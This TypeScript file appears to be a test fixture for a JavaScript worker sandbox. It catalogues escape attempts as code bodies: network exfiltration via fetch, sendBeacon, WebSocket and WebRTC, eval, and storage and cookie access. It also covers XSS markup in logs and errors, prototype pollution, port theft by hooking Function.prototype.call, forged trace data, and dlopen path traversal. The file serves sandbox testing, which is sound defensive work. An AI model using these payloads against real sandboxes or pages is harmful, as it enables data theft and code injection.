/** A way in which a hostile program might get out of its worker. */
export interface Escape {
  readonly name: string;
  /**
   * The body of an async function: plain JavaScript, with `scope` the global, `http` and `ws` the witness's addresses,
   * `soon(promise)`, which gives up after a moment, `dlopen`, and `forge(change)`, which is to change every column that the
   * runner sends from then on. It returns what it got, and throws when it got nothing.
   */
  readonly body: string;
  /** It may run to its end: what counts is that nothing comes of it. */
  readonly mayRun?: true;
}

/** Ways to speak to a server. Whoever is not in the sandbox gets through with them: the control test shows it. */
export const NETWORK: readonly Escape[] = [
  { name: "fetch", body: `return soon(scope.fetch(http + "/fetch", { mode: "no-cors" }));` },
  {
    name: "fetch that outlives its page",
    body: `return soon(scope.fetch(http + "/keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "secret" }));`,
  },
  {
    name: "XMLHttpRequest",
    body: `const request = new scope.XMLHttpRequest();
      request.open("GET", http + "/xhr", false);
      request.send();
      return request.status;`,
  },
  {
    name: "WebSocket",
    body: `const socket = new scope.WebSocket(ws + "/socket");
      return soon(new Promise((resolve, reject) => { socket.onopen = () => resolve("open"); socket.onerror = reject; }));`,
  },
  { name: "WebSocketStream", body: `return soon(new scope.WebSocketStream(ws + "/stream").opened);` },
  {
    name: "EventSource",
    body: `const source = new scope.EventSource(http + "/events");
      return soon(new Promise((resolve, reject) => { source.onmessage = () => resolve("message"); source.onerror = reject; }));`,
  },
  { name: "import() of a remote module", body: `return soon(import(http + "/module.js"));` },
  { name: "importScripts", body: `scope.importScripts(http + "/script.js"); return "imported";` },
  {
    name: "a nested worker that fetches",
    body: `const text = "fetch(" + JSON.stringify(http + "/nested") + ", { mode: 'no-cors' }).then(() => postMessage(1))";
      const worker = new scope.Worker(scope.URL.createObjectURL(new scope.Blob([text])));
      return soon(new Promise((resolve, reject) => { worker.onmessage = resolve; worker.onerror = reject; }));`,
  },
  {
    name: "a nested worker from the server",
    body: `new scope.Worker(http + "/worker.js"); return soon(new Promise(() => {}));`,
  },
  {
    name: "a nested module worker from data",
    body: `const text = "fetch(" + JSON.stringify(http + "/data-worker") + ", { mode: 'no-cors' })";
      new scope.Worker("data:text/javascript," + encodeURIComponent(text), { type: "module" });
      return soon(new Promise(() => {}));`,
  },
  { name: "a shared worker", body: `new scope.SharedWorker(http + "/shared.js"); return soon(new Promise(() => {}));` },
  {
    name: "sendBeacon",
    body: `if (!scope.navigator.sendBeacon(http + "/beacon", "secret")) throw new Error("not queued"); return "queued";`,
  },
  {
    name: "WebTransport",
    body: `const transport = new scope.WebTransport(http.replace("http:", "https:") + "/transport");
      return soon(transport.ready);`,
  },
  {
    name: "WebRTC",
    body: `const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:" + http.slice(7) }] });
      peer.createDataChannel("secret");
      await peer.setLocalDescription(await peer.createOffer());
      return soon(new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve("gathered"); }));`,
  },
  {
    name: "a font",
    body: `const font = new scope.FontFace("secret", "url(" + http + "/font.woff2)");
      (scope.fonts ?? scope.document.fonts).add(font);
      return soon(font.load());`,
  },
  {
    name: "an image",
    body: `const image = new scope.Image();
      return soon(new Promise((resolve, reject) => { image.onload = resolve; image.onerror = reject; image.src = http + "/image.png"; }));`,
  },
  {
    name: "a style sheet, a prefetch, a preconnect",
    body: `for (const rel of ["stylesheet", "prefetch", "preconnect", "dns-prefetch", "modulepreload"]) {
        const link = Object.assign(scope.document.createElement("link"), { rel, href: http + "/" + rel, as: "script" });
        scope.document.head.append(link);
      }
      return soon(new Promise(() => {}));`,
  },
  {
    name: "going somewhere else",
    body: `scope.location.href = http + "/navigated"; scope.location.assign(http + "/assigned"); return soon(new Promise(() => {}));`,
  },
  { name: "opening a window", body: `return scope.open(http + "/opened").closed;` },
  { name: "a service worker", body: `return soon(scope.navigator.serviceWorker.register(http + "/service.js"));` },
  {
    name: "the Cache's own fetch",
    body: `const cache = await scope.caches.open("secret"); return soon(cache.add(http + "/cached"));`,
  },
  {
    name: "a module whose source map is remote",
    body: `const text = "export const x = 1;\\n//# sourceMappingURL=" + http + "/secret.map";
      return (await soon(import(scope.URL.createObjectURL(new scope.Blob([text], { type: "text/javascript" }))))).x;`,
    mayRun: true,
  },
  {
    name: "WebAssembly streamed from the server",
    body: `return soon(scope.WebAssembly.compileStreaming(scope.fetch(http + "/code.wasm")));`,
  },
];

/** Ways to keep something, to speak to another page, or to make code that nobody looked at. */
export const STORAGE_AND_CODE: readonly Escape[] = [
  { name: "eval", body: `return (0, scope.eval)("'evaluated'");` },
  { name: "new Function", body: `return new scope.Function("return 'made'")();` },
  { name: "the constructor of any function", body: `return (async () => {}).constructor("return 'made'")();` },
  {
    name: "a timer that takes text",
    body: `scope.setTimeout("globalThis.timerRan = true", 0);
      await new Promise((resolve) => scope.setTimeout(resolve, 20));
      if (!scope.timerRan) throw new Error("the text did not run");
      return "ran";`,
  },
  { name: "import() of data", body: `return soon(import("data:text/javascript,export default 'imported'"));` },
  {
    name: "IndexedDB",
    body: `const request = scope.indexedDB.open("secret");
      return soon(new Promise((resolve, reject) => { request.onsuccess = () => resolve("open"); request.onerror = () => reject(request.error); }));`,
  },
  { name: "caches", body: `return soon(scope.caches.open("secret"));` },
  { name: "the origin's private file system", body: `return soon(scope.navigator.storage.getDirectory());` },
  { name: "localStorage", body: `scope.localStorage.setItem("secret", "kept"); return "kept";` },
  {
    name: "cookies",
    body: `if (scope.cookieStore) return soon(scope.cookieStore.set("secret", "kept")); return scope.document.cookie.length;`,
  },
  {
    name: "locks of the page's origin",
    body: `return soon(scope.navigator.locks.query().then(() => scope.navigator.locks.request("page", { steal: true }, () => "stolen")));`,
  },
  {
    name: "a BroadcastChannel to the page",
    body: `new scope.BroadcastChannel("page").postMessage("secret"); return soon(new Promise(() => {}));`,
  },
  {
    name: "Notification",
    body: `return soon(scope.Notification.requestPermission().then((answer) => { if (answer !== "granted") throw new Error(answer); }));`,
  },
  { name: "the page's document", body: `return (scope.parent ?? scope.top ?? scope.opener).document.title;` },
];

/**
 * Ways to harm the page through what it has to read: the trace, and what stands in it. They run in the page only,
 * because they are aimed at the runner that is there.
 */
export const ON_THE_PAGE: readonly Escape[] = [
  {
    name: "markup in what is printed",
    mayRun: true,
    body: `console.log("<img src='" + http + "/printed.png' onerror='window.escaped = true'>");
      console.error("<script>window.escaped = true</script>", { toString() { return "<b>"; } });
      return "<svg onload='window.escaped = true'>";`,
  },
  {
    name: "markup in an exception",
    mayRun: true,
    body: `Promise.reject(Object.assign(new Error("<img src='" + http + "/thrown.png' onerror='window.escaped = true'>"), { name: "<b>" }));
      return soon(new Promise(() => {}));`,
  },
  {
    name: "an exception that cannot be read",
    mayRun: true,
    body: `setTimeout(() => { throw { get name() { throw 1; }, get message() { throw 2; }, toString() { throw 3; } }; });
      return soon(new Promise(() => {}));`,
  },
  {
    name: "prototypes that reach the page",
    mayRun: true,
    body: `Object.prototype.polluted = Array.prototype.polluted = String.prototype.polluted = "yes";
      Object.defineProperty(Object.prototype, "type", { get: () => "failed", set() {}, configurable: true });
      console.log(JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}'));
      return "polluted";`,
  },
  {
    name: "a blob of the page's origin",
    body: `try { return (await soon(import(pageBlob))).secret; }
      catch { return await soon(scope.fetch(pageBlob).then((answer) => answer.text())); }`,
  },
  {
    name: "WebAssembly that asks for the page's functions",
    body: `const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,13,1,3,101,110,118,5,102,101,116,99,104,0,0]);
      const env = new Proxy({}, { get: (_, name) => scope[name] ?? scope.self?.[name] });
      await WebAssembly.instantiate(bytes, { env });
      return "instantiated";`,
  },
  { name: "a message to the frame", body: `scope.postMessage({ type: "terminated", worker: 1 }); return "posted";` },
  {
    name: "another port of the runner's kind",
    body: `const { port1, port2 } = new scope.MessageChannel();
      Object.getPrototypeOf(port1).postMessage = function (message, transfer) { scope.stolen = this; };
      return soon(new Promise(() => {}));`,
  },
  {
    name: "the runner's port, by calling what it calls",
    body: `const real = Function.prototype.call, apply = Reflect.apply;
      let stolen = null;
      for (const name of ["call", "apply", "bind"]) {
        const original = Function.prototype[name];
        Function.prototype[name] = function (self, ...rest) {
          if (self && typeof self.postMessage === "function") stolen = self;
          return apply(original, this, [self, ...rest]);
        };
      }
      console.log("look");
      await new Promise((resolve) => setTimeout(resolve, 30));
      if (!stolen) throw new Error("nobody handed it over");
      stolen.postMessage({ type: "done", runId: 1 });
      return "stolen";`,
  },
  {
    name: "events of a kind there is not",
    body: `return forge((column) => { if (column.BYTES_PER_ELEMENT === 1) column.fill(255); });`,
  },
  {
    name: "a call whose arguments never end",
    body: `const { symbols } = dlopen("strings", { stored_length: { parameters: [], result: "usize" } });
      forge((column) => { if (column instanceof Float64Array && column.length !== 1) column.fill(1e300); });
      for (let i = 0; i < 5000; i++) symbols.stored_length();
      return "called";`,
  },
  {
    name: "faults that are no faults",
    body: `const { symbols } = dlopen("strings", { strlen: { parameters: ["pointer"], result: "usize" } });
      JSON.stringify = () => '{"act":"<b>","library":{}}';
      symbols.strlen(null); return "read";`,
  },
  {
    name: "an end of its own",
    body: `return forge((column) => { if (column.BYTES_PER_ELEMENT === 1) column.fill(16); });`,
  },
  {
    name: "time that is no number",
    mayRun: true,
    body: `scope.Performance?.prototype; Object.getPrototypeOf(performance).now = () => NaN; return "set";`,
  },
  {
    name: "columns that are not what they were",
    body: `const map = Array.prototype.map;
      Array.prototype.map = function (...rest) {
        for (const column of this) if (ArrayBuffer.isView(column)) column.fill(-1);
        return Reflect.apply(map, this, rest);
      };
      return "changed";`,
  },
  {
    name: "a line of a hundred million characters",
    body: `String.prototype.slice = function () { return String(this); };
      console.log("x".repeat(1e8)); return "printed";`,
  },
  { name: "closing its worker", body: `scope.close(); return "closed";` },
  { name: "a library by its address", body: `return dlopen(http + "/library", {});` },
  { name: "a library by a path", body: `return dlopen("../../secret", {});` },
  { name: "the runner's own global", body: `return scope["__" + "ffi"].trace.length;` },
];
